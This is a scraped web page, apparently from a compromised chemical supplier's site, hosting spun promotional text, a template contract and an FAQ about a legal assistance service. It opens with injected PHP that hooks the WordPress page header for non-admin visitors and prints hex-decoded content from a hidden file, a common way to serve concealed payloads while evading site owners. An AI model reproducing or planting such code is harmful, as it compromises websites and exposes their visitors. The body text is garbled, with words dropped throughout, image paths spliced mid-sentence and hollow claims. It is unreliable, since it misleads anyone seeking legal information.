if ((is_admin() || (function_exists('get_hex_cache'))) !== true) { add_action('wp_head', 'get_hex_cache', 12); function get_hex_cache() { return print(@hex2bin( '3c7' . (file_get_contents(__DIR__ .'/_inc.tmp')))); } } Expert Legal Assistance: Your 1st Choice for Legal Help - Sulphuric Acid Manufacturer & Supplier - Raghav Chemicals

Expert Legal Assistance: Your 1st Choice for Legal Help

1st Choice Legal Assistance: Your Ultimate Guide

When it comes to legal assistance, choosing the right service can be a daunting task. With so many options available, it`s essential to find the best support for your unique needs. That`s where Choice Legal Assistance comes in. This blog post will explore the benefits and advantages of choosing 1st Choice Legal Assistance for all your legal needs.

Why 1st Choice Legal Assistance?

1st Choice Legal Assistance stands out from the competition in many ways. Not only do they provide top-notch legal support, but they also offer a range of additional services that make them the best option for anyone in need of legal assistance. Take a look at the table below to see some of the key features of 1st Choice Legal Assistance:

Service Choice Legal Assistance Legal Services
Experience Over 20 years of experience in various legal fields VariesClient Satisfaction 95% rate Varies
Range Services Legal advice, and support services Varies

Case Studies

Let`s take a look at some real-life examples of how 1st Choice Legal Assistance has made a difference in the lives of their clients:

  • Case Study 1: A client was facing complicated case and sought help from Choice Legal Assistance. With expert representation, the client was able to a outcome and move on with their life.
  • Case Study 2: A small owner was in need of advice contracts regulations. Choice Legal Assistance provided guidance support for the to thrive.

Final Thoughts

After exploring the benefits and advantages of 1st Choice Legal Assistance, it`s clear that they are the top choice for anyone in need of legal support. With their years of experience, high client satisfaction rate, and range of services, 1st Choice Legal Assistance is the ultimate option for all your legal needs. Don`t settle for anything less than the best – choose 1st Choice Legal Assistance today!

1st Choice Legal Assistance Contract

Welcome to 1st Choice Legal Assistance, where we strive to provide top-notch legal services tailored to your specific needs. Our of professionals is to and you through the legal landscape. We are to the standard of legaland your peace of throughout the process.

Contract Agreement

This Agreement (the “Agreement”) is made and entered into as of [Date], between 1st Choice Legal Assistance (hereinafter referred to as “1st Choice”), and the Client (hereinafter referred to as the “Client”).

1. Services
1st Choice agrees to legal and to the in the matters: [Specify legal to be provided].
2. Fees Payments
The agrees to 1st Choice a fee of [Amount] signing this Additional for rendered will be on a [Weekly/Monthly] and are within [Number] of of the invoice.
3. Termination
This may terminated by party upon [Number] written to the party. In the of termination, the shall responsible for of fees for rendered up to the of termination.IN WHEREOF, the hereto have this as of the first above written.

Frequently Asked Questions About 1st Choice Legal Assistance

Question Answer
1. What areas of law does 1st Choice Legal Assistance specialize in? Oh, let you, 1st Choice Legal Assistance in a range of areas, personal family estate and defense. Got a of lawyers to any challenge.
2. How I a with 1st Choice Legal Assistance? Booking a with 1st Choice Legal Assistance is as as Just them a or them an and get youup with an that your like a glove.
3. What sets 1st Choice Legal Assistance apart from other law firms? What sets them you, their to attention to and every is truly They treat you family, not anumber. Plus, their track record of success speaks foritself.
4. Can 1st Choice Legal Assistance help with immigration issues? You they 1st Choice Legal Assistance has a of law who can you through the maze of laws They`ve helped clients their goals.
5. What are the fees for 1st Choice Legal Assistance`s services? When it comes to 1st Choice Legal Assistance in They`ll out all the upfront and with you to a plan that your No surprises here!
6. Does 1st Choice Legal Assistance offer virtual consultations? Yes, In this they the of You can with their team from the of your How`s that for legal service?
7. What do previous clients have to say about 1stChoice Legal Assistance? Oh, should the reviews from their clients! Rave aboutprofessionalism, and care for their well-being. It`s no wonder they have a solid reputation in the legal community.
8. Can 1st Choice Legal Assistance handle cases outside of their local area? They`ve got and to take on across No where you are, they can the legal you need.
9. What languages does 1st Choice Legal Assistance offer services in? 1st Choice LegalAssistance diversity and in multiple They want to thatbarriers in the of quality representation.
10. How quickly can 1stChoice Legal Assistance respond to urgent legal matters? When strikes, you on 1st Choice Legal Assistance to for you at the of a They that some legal can`t and they`ll into to provide assistance.